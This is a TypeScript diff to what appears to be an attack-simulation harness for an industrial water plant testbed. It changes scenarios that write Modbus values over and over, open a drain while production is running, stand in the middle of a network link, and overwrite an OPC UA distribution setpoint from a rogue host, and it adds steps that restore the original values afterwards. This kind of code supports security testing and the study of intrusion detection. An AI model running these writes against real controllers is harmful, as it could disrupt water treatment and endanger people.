@@ -4,7 +4,7 @@ import type { AttackLog } from "./attack-log.ts";
 import { findAttack } from "./catalogue.ts";
 import { type Draw, draw } from "./draw.ts";
 import { patchLink, runManInTheMiddle } from "./man-in-the-middle.ts";
-import { readDiscreteInput, writeRound } from "./modbus-attack.ts";
+import { presentValues, putBack, readDiscreteInput, writeRound } from "./modbus-attack.ts";
 import { ModbusMaster } from "./modbus-master.ts";
 import { type Watch, watchClock } from "./watch.ts";
 
@@ -84,27 +84,32 @@ async function rounds({ draw: { periodMs }, watch, untilMs }: Scene, round: () =
   }
 }
 
-async function writeOverAndOver(scene: Scene, master: ModbusMaster): Promise<void> {
+/** Like many intruders, these look first what is there, and put it back when they leave, if they got anything through. */
+async function writeOverAndOver(scene: Scene, master: ModbusMaster, mayWrite: () => Promise<boolean> = always): Promise<void> {
+  const { draw: drawn, watch, log } = scene;
+  let taken = false;
   try {
-    await rounds(scene, () => writeRound(master, scene.draw.writes, scene.watch, scene.log));
+    const found = await presentValues(master, drawn.writes);
+    await rounds(scene, async () => {
+      if (await mayWrite()) taken = (await writeRound(master, drawn.writes, watch, log)) || taken;
+    });
+    if (taken) await putBack(master, found, watch, log);
   } finally {
     master.close();
   }
 }
 
+const always = (): Promise<boolean> => Promise.resolve(true);
+
 /** The step is told by the backwash's own status. In a backwash the drain may be opened, so it waits. */
 async function openDrainWhileProducing(scene: Scene): Promise<void> {
-  const { plan, draw: drawn, watch, log } = scene;
+  const { plan, watch, log } = scene;
   const master = new ModbusMaster(plan.access.plc2, from(plan.hmi, plan.sourcePorts?.hmi));
-  try {
-    await rounds(scene, async () => {
-      const washing = await readDiscreteInput(master, BACKWASH_ACTIVE.unit, BACKWASH_ACTIVE.address);
-      if (washing !== true) return writeRound(master, drawn.writes, watch, log);
-      log({ atMs: watch.now(), action: "wait", tag: null, value: null, answer: "a backwash is in progress" });
-    });
-  } finally {
-    master.close();
-  }
+  await writeOverAndOver(scene, master, async () => {
+    if ((await readDiscreteInput(master, BACKWASH_ACTIVE.unit, BACKWASH_ACTIVE.address)) !== true) return true;
+    log({ atMs: watch.now(), action: "wait", tag: null, value: null, answer: "a backwash is in progress" });
+    return false;
+  });
 }
 
 async function standInTheMiddle(scene: Scene): Promise<void> {
@@ -124,6 +129,7 @@ async function standInTheMiddle(scene: Scene): Promise<void> {
   try {
     note("patch", await patchLink(plan.patch, MITM_LINK, box.at));
     await watch.reached(untilMs);
+    await box.putBack();
   } finally {
     note("unpatch", await patchLink(plan.patch, MITM_LINK, undefined));
     await box.close();
@@ -135,13 +141,21 @@ async function stopDistribution(scene: Scene): Promise<void> {
   // Only this attack needs the library, which takes seconds to load.
   const { OpcUaIntruder } = await import("./opcua-intruder.ts");
   const intruder = await OpcUaIntruder.create(plan.filter.plc2Ua, from(plan.rogue, plan.sourcePorts?.rogue));
+  let taken = false;
   try {
+    const found = await intruder.read(DISTRIBUTION_NODE);
     await rounds(scene, async () => {
       for (const { tag, value } of drawn.writes.flatMap((write) => write.items)) {
         const atMs = watch.now();
-        log({ atMs, action: "Write", tag, value, answer: await intruder.write(DISTRIBUTION_NODE, value) });
+        const answer = await intruder.write(DISTRIBUTION_NODE, value);
+        taken ||= answer === "ok";
+        log({ atMs, action: "Write", tag, value, answer });
       }
     });
+    if (taken && found !== undefined) {
+      const atMs = watch.now();
+      log({ atMs, action: "put back by Write", tag: "FIC401.SP", value: null, answer: await intruder.write(DISTRIBUTION_NODE, found) });
+    }
   } finally {
     await intruder.close();
   }
